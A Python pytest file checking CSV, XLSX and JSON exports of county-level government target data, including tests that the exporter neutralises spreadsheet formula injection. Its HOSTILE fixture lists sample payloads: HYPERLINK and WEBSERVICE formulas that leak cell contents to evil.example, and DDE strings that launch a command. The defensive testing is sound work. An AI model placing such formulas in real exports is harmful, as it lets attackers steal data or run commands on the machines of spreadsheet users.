"""targets.export: CSV for Excel on Chinese Windows, XLSX with a sources sheet, JSON with null for blanks."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from targets.analysis import export

CONTRACT = ["theme", "indicator", "county", "period", "value", "unit", "source"]


@pytest.fixture(scope="module")
def frame(shipped):
    return shipped.frame


def json_records(data: bytes) -> list[dict]:
    def refuse(token):
        raise AssertionError(f"{token} is not JSON")
    return json.loads(data.decode("utf-8"), parse_constant=refuse)


def test_csv_starts_with_bom_and_has_the_contract_columns(frame):
    data = export.to_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert not data.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows and list(rows[0])[:7] == CONTRACT
    assert len(rows) == len(frame)


def test_csv_values_as_written(frame):
    rows = list(csv.DictReader(io.StringIO(export.to_csv(frame).decode("utf-8-sig"))))
    linxian = next(r for r in rows if r["indicator"] == "sown_area" and r["county"] == "临县")
    assert (linxian["value"], linxian["unit"], linxian["period"], linxian["source"]) == (
        "117.59", "万亩", "2021", "吕政办发〔2021〕13号")
    dash = next(r for r in rows if r["theme"] == "sewer" and r["county"] == "市级" and r["period"] == "2022")
    assert (dash["value"], dash["status"], dash["label"]) == ("", "no_task", "-")
    assert not any(v == "nan" for r in rows for v in r.values())


def test_json_is_valid_with_null_for_blanks(frame):
    records = json_records(export.to_json(frame))
    assert len(records) == len(frame)
    assert list(records[0])[:7] == CONTRACT
    blank = next(r for r in records if r["county"] == "方山县" and r["indicator"] == "parks_100k"
                 and r["period"] == "overall")
    assert (blank["value"], blank["status"], blank["label"]) == (None, "blank", "")
    no_task = next(r for r in records if r["theme"] == "sewer" and r["county"] == "新区" and r["period"] == "2023")
    assert (no_task["value"], no_task["status"]) == (None, "no_task")
    guides = next(r for r in records if r["item_id"] == "township_guides")
    assert (guides["value"], guides["upper"], guides["comparator"]) == (3.0, 5.0, "range")
    exact = next(r for r in records if r["county"] == "临县" and r["indicator"] == "sown_area")
    assert exact["value"] == 117.59 and exact["upper"] is None
    assert not any(v == "nan" for r in records for v in r.values())
    assert "吕政办发〔2021〕13号" in export.to_json(frame).decode("utf-8")  # not \u-escaped


@pytest.mark.slow
def test_xlsx_has_targets_and_sources_sheets(frame):
    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(frame)), read_only=True)
    assert wb.sheetnames == ["targets", "sources"]
    targets = list(wb["targets"].iter_rows(values_only=True))
    assert list(targets[0][:7]) == CONTRACT
    assert len(targets) == len(frame) + 1
    sources = list(wb["sources"].iter_rows(values_only=True))
    assert sources[0] == ("source", "source_title", "source_date")
    assert [r[0] for r in sources[1:]] == ["吕政办发〔2021〕14号", "吕政办发〔2021〕13号", "吕政办发〔2021〕17号",
                                           "吕政办发〔2021〕18号"]  # by date of issue
    assert all(r[1] for r in sources[1:])


def test_render_dispatches_every_format(frame):
    assert set(export.FORMATS) == {"csv", "xlsx", "json"}
    small = frame.head(3)
    assert export.render(small, "csv") == export.to_csv(small)
    assert export.render(small, "json") == export.to_json(small)
    assert export.render(small, "xlsx")[:2] == b"PK"


def test_plain_leaves_the_frame_unchanged(frame):
    before = frame.dtypes.copy()
    out = export.plain(frame)
    assert (frame.dtypes == before).all()
    assert out["period"].tolist() == frame["period"].astype(str).tolist()


# ---- formula-inert downloads (OWASP CSV injection) -------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=WEBSERVICE(\"http://evil.example/\"&B2)",
           "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(frame):
    """The shipped frame with formula labels in every text column of the first rows, and a negative value."""
    out = export.plain(frame.head(len(HOSTILE) + 2)).reset_index(drop=True)
    text = [c for c in out.columns if out[c].dtype == object or pd.api.types.is_string_dtype(out[c])]
    for i, label in enumerate(HOSTILE):
        for c in text:
            out.loc[i, c] = label
    out.loc[len(HOSTILE), "value"] = -3.5
    out.loc[len(HOSTILE) + 1, "label"] = "-"
    return out, text


@pytest.mark.parametrize("text,expected", [("=1+1", True), ("+1", False), ("-", False), ("--", False), ("-3.5", False),
                                           ("+12%", False), ("-1+1", True), ("@A1", True), ("\tx", True), ("\rx", True),
                                           ("ok=1", False), ("", False), ("－", False)])
def test_what_counts_as_a_formula(text, expected):
    assert export.risky(text) is expected


def test_csv_cells_that_would_run_are_written_as_text(hostile):
    out, text = hostile
    rows = list(csv.reader(io.StringIO(export.to_csv(out).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    for i, label in enumerate(HOSTILE):
        for c in text:
            assert body[i][header.index(c)] == "'" + label  # Excel's text marker: shown as the label, never run
    cells = [v for r in body for v in r]
    assert not [v for v in cells if v.startswith(export.TRIGGERS) and not export._INERT.fullmatch(v)]
    assert body[len(HOSTILE)][header.index("value")] == "-3.5"  # a negative number stays a number
    assert body[len(HOSTILE) + 1][header.index("label")] == "-"  # the gazette's "no task" stays "-"


def test_xlsx_has_no_formula_cell_and_keeps_the_labels_and_numbers(hostile):
    out, text = hostile
    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(out)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    for i, label in enumerate(HOSTILE):
        for c in text:
            cell = ws.cell(row=i + 2, column=header.index(c) + 1)
            assert (cell.value, cell.data_type, cell.quotePrefix) == (label.replace("\r", "\n"), "s", True)  # XML keeps no CR
    value = ws.cell(row=len(HOSTILE) + 2, column=header.index("value") + 1)
    assert (value.value, value.data_type) == (-3.5, "n")
    assert ws.cell(row=len(HOSTILE) + 3, column=header.index("label") + 1).value == "-"
